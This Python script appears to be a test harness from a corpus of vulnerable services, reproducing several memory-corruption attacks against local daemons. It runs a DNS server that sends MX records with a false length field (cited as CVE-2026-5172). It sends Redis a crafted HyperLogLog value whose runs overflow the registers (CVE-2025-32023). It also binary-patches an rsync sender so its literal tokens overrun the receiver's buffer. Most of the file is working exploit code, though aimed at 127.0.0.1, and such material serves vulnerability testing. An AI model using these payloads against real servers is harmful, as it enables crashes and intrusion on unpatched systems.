"""The other side of the corpus' daemons.

corpus-net.py port                    a free port
corpus-net.py dns-serve PORT          a name server whose MX records lie about their length (CVE-2026-5172)
corpus-net.py dns-ask PORT            one question over TCP, to a server that asks that one
corpus-net.py redis-ask PORT          count a HyperLogLog whose runs add up to too many registers (CVE-2025-32023)
corpus-net.py rsync-sender FROM TO    a copy of rsync whose literal tokens are longer than the receiver's buffer
"""

import os
import socket
import struct
import subprocess
import sys
import threading
import time

QUESTION = b"\x04evil\x07example\0\0\x0f\0\1"


def connect(port):
    for _ in range(200):
        try:
            return socket.create_connection(("127.0.0.1", port), timeout=10)
        except ConnectionRefusedError:
            time.sleep(0.05)
    raise SystemExit("nobody listens on port %d" % port)


def read(sock, cnt):
    data = b""
    while len(data) < cnt:
        more = sock.recv(cnt - len(data))
        if not more:
            return b""
        data += more
    return data


def read_message(sock):
    size = read(sock, 2)
    return read(sock, struct.unpack(">H", size)[0]) if size else b""


def send_message(sock, data):
    sock.sendall(struct.pack(">H", len(data)) + data)


def dns_answer(q):
    record = b"\xc0\x0c\0\x0f\0\1\0\0\0\x3c\0\4" + b"\0\x0a\x04mail\x07example\0"  # says 4 bytes, has 16
    return q[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + QUESTION + record


def dns_tcp(listener):
    while True:
        sock, _ = listener.accept()
        q = read_message(sock)
        if q:
            send_message(sock, dns_answer(q))
        sock.close()


def dns_serve(port):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    threading.Thread(target=dns_tcp, args=(socket.create_server(("127.0.0.1", port)),), daemon=True).start()
    print("ready", flush=True)
    while True:
        q, peer = udp.recvfrom(4096)
        udp.sendto(dns_answer(q), peer)


def dns_ask(port):
    sock = connect(port)
    send_message(sock, b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + QUESTION)
    r = read_message(sock)
    # Vulnerable: as far as memory goes is copied; then the record is passed on, or the server's child has died.
    code = r[3] & 15 if r else 0
    print({0: "the record is taken", 2: "the record is refused"}.get(code, "code %d" % code))


def redis_ask(port):
    evil = b"HYLL\1" + bytes(10) + b"\x80" + b"\x7f\xff" * 262145
    sock = connect(port)
    sock.sendall(b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$%d\r\n%s\r\n*2\r\n$7\r\nPFCOUNT\r\n$1\r\nk\r\n" % (len(evil), evil))
    lines = sock.makefile("rb")
    lines.readline()
    print(lines.readline().decode().strip())


def rsync_sender(src, dst):
    """CHUNK_SIZE of the functions that send, 32 KiB, becomes 48 KiB."""
    with open(src, "rb") as f:
        data = bytearray(f.read())
    changed = 0
    for name in ("match_sums", "matched", "send_token"):
        out = subprocess.run(["objdump", "-d", "--disassemble=" + name, src], stdout=subprocess.PIPE, check=True).stdout
        for part in (line.split("\t") for line in out.decode().splitlines()):
            if len(part) == 3 and ("$0x8000," in part[2] or "0x8000(" in part[2]):
                va = int(part[0].strip(" :"), 16)
                at = bytes.fromhex(part[1].replace(" ", "")).find(b"\0\x80\0\0")
                data[va + at : va + at + 4] = b"\0\xc0\0\0"
                changed += 1
    with open(dst, "wb") as f:
        f.write(data)
    os.chmod(dst, 0o755)
    if changed == 0:
        raise SystemExit("no constant found")


def main(argv):
    if argv[1] == "port":
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            print(s.getsockname()[1])
    elif argv[1] == "rsync-sender":
        rsync_sender(argv[2], argv[3])
    else:
        {"dns-serve": dns_serve, "dns-ask": dns_ask, "redis-ask": redis_ask}[argv[1]](int(argv[2]))


main(sys.argv)
